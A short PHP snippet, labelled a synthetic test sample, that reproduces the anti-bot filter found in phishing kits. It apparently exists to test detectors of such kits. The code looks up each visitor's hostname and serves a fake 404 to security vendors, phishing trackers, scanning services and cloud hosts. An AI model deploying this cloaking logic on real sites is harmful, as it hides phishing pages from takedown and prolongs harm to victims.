<?php
// SYNTHETIC TEST SAMPLE: anti-bot filter as shipped with kits
$blocked_words = array("phishtank", "netcraft", "spamhaus", "bitdefender", "kaspersky",
    "trendmicro", "phishlabs", "urlscan", "virustotal", "forcepoint", "surbl", "opendns",
    "google", "amazonaws", "above", "softlayer");
$hostname = gethostbyaddr($_SERVER['REMOTE_ADDR']);
foreach ($blocked_words as $word) {
    if (substr_count(strtolower($hostname), $word) > 0) {
        header("HTTP/1.0 404 Not Found");
        exit();
    }
}
?>
